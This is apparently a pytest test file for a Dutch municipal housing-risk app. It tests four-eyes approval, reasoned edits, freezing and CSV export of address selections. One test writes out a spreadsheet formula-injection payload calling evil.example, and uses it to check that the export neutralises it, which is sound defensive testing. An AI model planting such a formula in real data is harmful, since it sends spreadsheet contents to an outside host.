"""Selections with four eyes, through the services and over HTTP: composed from a run,
addresses added and removed with a reason, submitted, approved by someone else, frozen."""

from __future__ import annotations

import csv
import io

import duckdb
import pytest

from django.core.exceptions import PermissionDenied, ValidationError
from django.urls import reverse

from goedwonen.analytics.models import Risicorun, Selectie, Selectieadres
from goedwonen.analytics.selections import (
    OWN_SELECTION,
    selectie_address_add,
    selectie_address_remove,
    selectie_cases_create,
    selectie_compose,
    selectie_decide,
    selectie_submit,
)
from goedwonen.analytics.selectors import ScoreFilters, scores_path
from goedwonen.analytics.services import risicorun_start
from goedwonen.casussen.models import Casus, Herkomst
from goedwonen.core.models import Verwerkingslog
from goedwonen.core.policy import Capability
from goedwonen.registry.models import Gebied, Verblijfsobject

C = Capability
CARNISSE = "BU05991572"


@pytest.fixture
def run(imported) -> Risicorun:
    return risicorun_start(actor=None, gebied=Gebied.objects.get(code="WK059915"))


@pytest.fixture
def analist(make_user):
    return make_user([C.ANALYSIS_VIEW, C.SELECTION_COMPOSE, C.SELECTION_APPROVE], username="ana")


@pytest.fixture
def goedkeurder(make_user):
    return make_user([C.ANALYSIS_VIEW, C.SELECTION_APPROVE], username="piet")


def ranking(run: Risicorun, where: str = "true", params: list | None = None) -> list[tuple]:
    return duckdb.execute(
        f"SELECT object_id, score, rank, redenen FROM read_parquet(?) WHERE score > 0 AND {where} "
        "ORDER BY rank",
        [str(scores_path(run)), *(params or [])],
    ).fetchall()


def rows_of(selectie: Selectie) -> list[tuple]:
    return list(
        selectie.adressen.order_by("rang", "pk").values_list(
            "verblijfsobject__object_id", "score", "rang", "redenen", "handmatig", "reden"
        )
    )


def test_compose_takes_the_top_n_with_a_signal_and_keeps_score_rank_and_reasons(run, analist):
    selectie = selectie_compose(actor=analist, run=run, naam="Actie Carnisse", top_n=12)
    expected = ranking(run)[:12]
    assert rows_of(selectie) == [(o, s, r, list(why), "", "") for o, s, r, why in expected]
    assert (selectie.status, selectie.samengesteld_door, selectie.gebied) == (
        "concept",
        analist,
        run.gebied,
    )
    assert selectie.criteria == {"top_n": 12}
    assert Verwerkingslog.objects.filter(object_ref=f"selectie:{selectie.pk}").count() == 1


def test_compose_applies_the_filters(run, analist):
    selectie = selectie_compose(
        actor=analist,
        run=run,
        naam="Carnisse",
        top_n=5,
        filters=ScoreFilters(buurt=CARNISSE, indicator="bezetting"),
    )
    expected = ranking(run, 'buurtcode = ? AND "s_bezetting" > 0', [CARNISSE])[:5]
    assert [r[0] for r in rows_of(selectie)] == [o for o, *_ in expected]
    assert selectie.criteria == {"top_n": 5, "buurt": CARNISSE, "indicator": "bezetting"}


def test_compose_refuses_bad_input_and_makes_nothing(run, analist, make_user):
    with pytest.raises(ValidationError) as refused:
        selectie_compose(actor=analist, run=run, naam=" ", top_n=0)
    assert set(refused.value.message_dict) == {"naam", "top_n"}
    with pytest.raises(ValidationError):
        selectie_compose(
            actor=analist, run=run, naam="x", top_n=5, filters=ScoreFilters(eigenaar="GEEN")
        )
    with pytest.raises(PermissionDenied):
        selectie_compose(actor=make_user([C.ANALYSIS_VIEW]), run=run, naam="x", top_n=5)
    assert Selectie.objects.count() == 0


def test_a_composer_cannot_approve_their_own_selection(run, analist):
    selectie = selectie_compose(actor=analist, run=run, naam="Eigen", top_n=3)
    selectie_submit(actor=analist, selectie=selectie)
    with pytest.raises(PermissionDenied, match="zelf samengesteld"):
        selectie_decide(actor=analist, selectie=selectie, goedkeuren=True, toelichting="")
    selectie.refresh_from_db()
    assert (selectie.status, selectie.beoordeeld_door) == ("ter_goedkeuring", None)


def test_approval_needs_the_capability_and_a_submitted_selection(run, analist, make_user):
    selectie = selectie_compose(actor=analist, run=run, naam="Vier ogen", top_n=3)
    with pytest.raises(PermissionDenied):
        selectie_decide(
            actor=make_user([C.ANALYSIS_VIEW, C.SELECTION_COMPOSE]),
            selectie=selectie,
            goedkeuren=True,
            toelichting="",
        )
    with pytest.raises(ValidationError):  # still a concept
        selectie_decide(
            actor=make_user([C.SELECTION_APPROVE]),
            selectie=selectie,
            goedkeuren=True,
            toelichting="",
        )
    selectie.refresh_from_db()
    assert selectie.status == "concept"


def test_a_removal_needs_a_reason_and_stays_visible(run, analist):
    selectie = selectie_compose(actor=analist, run=run, naam="Weghalen", top_n=3)
    first = selectie.adressen.order_by("rang").first()
    with pytest.raises(ValidationError) as refused:
        selectie_address_remove(actor=analist, selectie=selectie, adres=first, reden="  ")
    assert refused.value.message_dict == {
        "reden": ["Zeg waarom u dit adres uit de selectie haalt."]
    }
    first.refresh_from_db()
    assert (first.handmatig, first.reden) == ("", "")
    selectie_address_remove(
        actor=analist, selectie=selectie, adres=first, reden="Vorige maand al bezocht"
    )
    first.refresh_from_db()
    assert (first.handmatig, first.reden, first.gewijzigd_door) == (
        "verwijderd",
        "Vorige maand al bezocht",
        analist,
    )
    assert selectie.adressen.count() == 3


def test_an_addition_needs_a_reason_and_takes_the_run_score(run, analist):
    selectie = selectie_compose(actor=analist, run=run, naam="Toevoegen", top_n=2)
    object_id, score, rank, redenen = ranking(run)[10]
    vbo = Verblijfsobject.objects.get(object_id=object_id)
    with pytest.raises(ValidationError):
        selectie_address_add(actor=analist, selectie=selectie, verblijfsobject=vbo, reden="")
    added = selectie_address_add(
        actor=analist, selectie=selectie, verblijfsobject=vbo, reden="Melding van de wijkagent"
    )
    assert (added.score, added.rang, added.redenen, added.handmatig) == (
        score,
        rank,
        list(redenen),
        "toegevoegd",
    )
    with pytest.raises(ValidationError, match="staat al in de selectie"):
        selectie_address_add(actor=analist, selectie=selectie, verblijfsobject=vbo, reden="x")


def test_an_approved_selection_cannot_change(run, analist, goedkeurder):
    selectie = selectie_compose(actor=analist, run=run, naam="Vast", top_n=3)
    selectie_submit(actor=analist, selectie=selectie)
    selectie = selectie_decide(
        actor=goedkeurder, selectie=selectie, goedkeuren=True, toelichting="Akkoord"
    )
    assert (selectie.status, selectie.beoordeeld_door, selectie.besluit_toelichting) == (
        "goedgekeurd",
        goedkeurder,
        "Akkoord",
    )
    before = rows_of(selectie)
    row = selectie.adressen.first()
    other = Verblijfsobject.objects.get(object_id=ranking(run)[20][0])
    attempts = [
        lambda: selectie_address_remove(actor=analist, selectie=selectie, adres=row, reden="x"),
        lambda: selectie_address_add(
            actor=analist, selectie=selectie, verblijfsobject=other, reden="x"
        ),
        lambda: selectie_submit(actor=analist, selectie=selectie),
        lambda: selectie_decide(
            actor=goedkeurder, selectie=selectie, goedkeuren=False, toelichting="toch niet"
        ),
    ]
    for attempt in attempts:
        with pytest.raises(ValidationError, match="ligt vast"):
            attempt()
    selectie.refresh_from_db()
    assert selectie.status == "goedgekeurd"
    assert rows_of(selectie) == before


def test_a_rejection_needs_a_reason(run, analist, goedkeurder):
    selectie = selectie_compose(actor=analist, run=run, naam="Af", top_n=3)
    selectie_submit(actor=analist, selectie=selectie)
    with pytest.raises(ValidationError):
        selectie_decide(actor=goedkeurder, selectie=selectie, goedkeuren=False, toelichting="")
    selectie = selectie_decide(
        actor=goedkeurder, selectie=selectie, goedkeuren=False, toelichting="Te smal"
    )
    assert selectie.status == "afgewezen"


def test_only_an_approved_selection_becomes_proactive_cases(run, analist, goedkeurder, make_user):
    regisseur = make_user([C.CASES_DIRECT, C.CASES_VIEW])
    selectie = selectie_compose(actor=analist, run=run, naam="Casussen", top_n=3)
    with pytest.raises(ValidationError, match="goedgekeurde"):
        selectie_cases_create(
            actor=regisseur,
            selectie=selectie,
            casusregisseur=regisseur,
            categorieen=["overbewoning"],
        )
    removed = selectie.adressen.order_by("rang").first()
    selectie_address_remove(actor=analist, selectie=selectie, adres=removed, reden="Al bekend")
    selectie_submit(actor=analist, selectie=selectie)
    selectie_decide(actor=goedkeurder, selectie=selectie, goedkeuren=True, toelichting="")
    made = selectie_cases_create(
        actor=regisseur, selectie=selectie, casusregisseur=regisseur, categorieen=["overbewoning"]
    ).made
    assert len(made) == 2
    assert {c.herkomst for c in made} == {Herkomst.PROACTIEF}
    # The proposed title names the problem, the area and the origin; never the address.
    assert sorted(c.titel for c in made) == sorted(
        f"Overbewoning in {c.objecten.get().verblijfsobject.buurt.naam} (proactieve selectie)"
        for c in made
    )
    assert sorted(
        Casus.objects.filter(pk__in=[c.pk for c in made]).values_list(
            "objecten__verblijfsobject__object_id", flat=True
        )
    ) == sorted(
        selectie.adressen.exclude(pk=removed.pk).values_list(
            "verblijfsobject__object_id", flat=True
        )
    )
    # Again: nothing new, every address has its case.
    again = selectie_cases_create(
        actor=regisseur, selectie=selectie, casusregisseur=regisseur, categorieen=["overbewoning"]
    )
    assert (again.made, again.already_open) == ([], [])


def test_an_address_with_an_open_case_gets_no_second_one_from_a_selection(
    run, analist, goedkeurder, make_user, client
):
    from goedwonen.casussen.services.cases import casus_create
    from goedwonen.registry.models import Adres

    regisseur = make_user([C.CASES_DIRECT, C.CASES_VIEW], username="regie")
    selectie = selectie_compose(actor=analist, run=run, naam="Casussen", top_n=3)
    selectie_submit(actor=analist, selectie=selectie)
    selectie_decide(actor=goedkeurder, selectie=selectie, goedkeuren=True, toelichting="")
    first = selectie.adressen.order_by("rang").first()
    adres = Adres.objects.get(verblijfsobject_id=first.verblijfsobject_id, hoofdadres=True)
    open_case = casus_create(
        actor=regisseur,
        titel="Al bekend",
        categorieen=["overbewoning"],
        casusregisseur=regisseur,
        herkomst=Herkomst.CASUSTAFEL,
        adressen=[adres],
    )
    client.force_login(regisseur)
    response = client.post(
        reverse("selectie-casussen", kwargs={"pk": selectie.pk}),
        {"casussen-categorieen": ["overbewoning"]},
        follow=True,
    )
    first.refresh_from_db()
    # The address keeps its one open case: the selection points at it, and the case hears
    # of the selection on its timeline.
    assert first.casus == open_case
    assert Casus.objects.filter(objecten__verblijfsobject_id=first.verblijfsobject_id).count() == 1
    assert open_case.tijdlijn.filter(soort="notitie").get().tekst == (
        "Signaal uit een goedgekeurde proactieve selectie (overbewoning): een adres van deze "
        "casus is geselecteerd. Er liep al deze casus, dus is er geen nieuwe gemaakt."
    )
    assert [str(m) for m in response.context["messages"]] == [
        "2 proactieve casussen gemaakt; u bent de casusregisseur. Op 1 adres liep al een "
        "casus: daar is geen nieuwe gemaakt en staat het signaal op de tijdlijn van die casus "
        f"({adres.straat_huisnummer}: casus {open_case.referentie})."
    ]


# Over HTTP


def test_four_eyes_over_http(run, analist, goedkeurder, client):
    client.force_login(analist)
    response = client.post(
        reverse("selectie-samenstellen", kwargs={"pk": run.pk}),
        {"naam": "Actie Tarwewijk", "top_n": "4", "buurt": "BU05991571"},
    )
    selectie = Selectie.objects.get()
    assert response["Location"] == reverse("selectie", kwargs={"pk": selectie.pk})
    assert selectie.criteria == {"top_n": 4, "buurt": "BU05991571"}
    row = selectie.adressen.order_by("rang").first()
    url = reverse("selectie-verwijderen", kwargs={"pk": selectie.pk, "adres": row.pk})
    refused = client.post(url, {f"weg{row.pk}-reden": ""})
    assert refused.status_code == 400
    assert "Zeg waarom u dit adres uit de selectie haalt." in refused.content.decode()
    row.refresh_from_db()
    assert row.handmatig == ""
    assert client.post(reverse("selectie-indienen", kwargs={"pk": selectie.pk})).status_code == 302
    # The composer holds the approval capability, and is still refused.
    own = client.post(
        reverse("selectie-besluit", kwargs={"pk": selectie.pk}),
        {"besluit-besluit": "goedkeuren", "besluit-toelichting": ""},
    )
    assert own.status_code == 400
    assert OWN_SELECTION in own.content.decode()
    selectie.refresh_from_db()
    assert selectie.status == "ter_goedkeuring"

    client.force_login(goedkeurder)
    page = client.get(reverse("selectie", kwargs={"pk": selectie.pk})).content.decode()
    assert "Goedkeuren" in page and row.redenen[0] in page
    approved = client.post(
        reverse("selectie-besluit", kwargs={"pk": selectie.pk}),
        {"besluit-besluit": "goedkeuren", "besluit-toelichting": "Akkoord voor 12 mei"},
    )
    assert approved.status_code == 302
    selectie.refresh_from_db()
    assert (selectie.status, selectie.beoordeeld_door) == ("goedgekeurd", goedkeurder)

    lines = Verwerkingslog.objects.filter(object_ref=f"selectie:{selectie.pk}").count()
    export = client.get(reverse("selectie-export", kwargs={"pk": selectie.pk}))
    body = export.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[0][0] == "object_id"
    assert [r[0] for r in rows[1:]] == list(
        selectie.adressen.order_by("rang").values_list("verblijfsobject__object_id", flat=True)
    )
    assert Verwerkingslog.objects.filter(object_ref=f"selectie:{selectie.pk}").count() == lines + 1


def test_the_address_list_lets_no_formula_through_and_keeps_numbers(
    run, analist, goedkeurder, client
):
    selectie = selectie_compose(actor=analist, run=run, naam="Formules", top_n=2)
    object_id = ranking(run)[10][0]
    reason = '=HYPERLINK("https://evil.example/?d="&A1,"Bekijk")'
    added = selectie_address_add(
        actor=analist,
        selectie=selectie,
        verblijfsobject=Verblijfsobject.objects.get(object_id=object_id),
        reden=reason,
    )
    selectie_submit(actor=analist, selectie=selectie)
    selectie_decide(actor=goedkeurder, selectie=selectie, goedkeuren=True, toelichting="Akkoord")
    client.force_login(analist)
    export = client.get(reverse("selectie-export", kwargs={"pk": selectie.pk}))
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], next(r for r in rows[1:] if r[0] == object_id), strict=True))
    assert (row["score"], row["rang"], row["handmatig"], row["reden"]) == (
        f"{added.score:.3f}".replace(".", ","),
        str(added.rang),
        "Handmatig toegevoegd",
        "'" + reason,
    )


def test_a_concept_cannot_be_exported(run, analist, client):
    selectie = selectie_compose(actor=analist, run=run, naam="Concept", top_n=2)
    client.force_login(analist)
    response = client.get(reverse("selectie-export", kwargs={"pk": selectie.pk}))
    assert response.status_code == 302
    assert Selectieadres.objects.filter(selectie=selectie).count() == 2


def test_the_address_list_names_the_buurt_with_its_code_beside_it(
    run, analist, goedkeurder, client
):
    selectie = selectie_compose(actor=analist, run=run, naam="Buurten", top_n=3)
    selectie_submit(actor=analist, selectie=selectie)
    selectie_decide(actor=goedkeurder, selectie=selectie, goedkeuren=True, toelichting="Akkoord")
    client.force_login(analist)
    export = client.get(reverse("selectie-export", kwargs={"pk": selectie.pk}))
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:5] == ["object_id", "adres", "postcode", "buurt", "buurtcode"]
    buurten = dict(Gebied.objects.values_list("code", "naam"))
    assert len(rows) == 4
    for row in rows[1:]:
        vbo = Verblijfsobject.objects.select_related("buurt").get(object_id=row[0])
        assert (row[3], row[4]) == (vbo.buurt.naam, vbo.buurt.code)
        assert row[3] == buurten[row[4]] and not row[3].startswith("BU")
